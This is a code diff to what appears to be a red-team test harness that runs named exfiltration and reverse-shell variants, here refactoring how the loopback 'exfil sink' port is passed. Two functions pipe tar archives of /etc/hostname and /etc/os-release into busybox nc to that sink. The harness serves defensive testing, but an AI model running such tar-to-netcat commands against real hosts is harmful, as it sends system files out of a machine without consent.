@@ -25,12 +25,13 @@ import sys
 import threading
 from collections.abc import Callable
 from pathlib import Path
-from typing import Any
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
 from redteam import PY, Ctx, Listener, Web  # noqa: E402
 
 NS = ["unshare", "-m", "--propagation", "private"]
+#: the port of the loopback exfil sink (set by main)
+SINK = [0]
 
 
 def _in_ns(c: Ctx, script: str) -> int:
@@ -213,12 +214,12 @@ def ex_wget_post_file(c: Ctx) -> None:
 
 
 def ex_tar_pipe_nc(c: Ctx) -> None:
-    c.bash(f"tar czf - /etc/hostname 2>/dev/null | busybox nc 127.0.0.1 {c.sink}")
+    c.bash(f"tar czf - /etc/hostname 2>/dev/null | busybox nc 127.0.0.1 {SINK[0]}")
 
 
 def ex_tar_nc_script(c: Ctx) -> None:
     c.script("bk.sh", f"cd /\ntar cf - etc/hostname /etc/os-release 2>/dev/null | "
-             f"busybox nc 127.0.0.1 {c.sink}\n")
+             f"busybox nc 127.0.0.1 {SINK[0]}\n")
 
 
 def rs_python_pipe_relay(c: Ctx) -> None:
@@ -424,7 +425,7 @@ def main(argv: list[str]) -> int:
     ap.add_argument("--log", required=True)
     ap.add_argument("names", nargs="+")
     a = ap.parse_args(argv)
-    ctx: Any = Ctx(json.loads(Path(a.ctx).read_text()))
+    ctx = Ctx(json.loads(Path(a.ctx).read_text()))
     table = {**VARIANTS, **KNOWN_MISSES}
     unknown = [n for n in a.names if n not in table]
     if unknown:
@@ -432,7 +433,7 @@ def main(argv: list[str]) -> int:
         return 2
     ctx.port = Listener().port
     ctx.http = Web().port
-    ctx.sink = Sink().port
+    SINK[0] = Sink().port
     with open(a.log, "w") as log:
         for name in a.names:
             pid = os.fork()
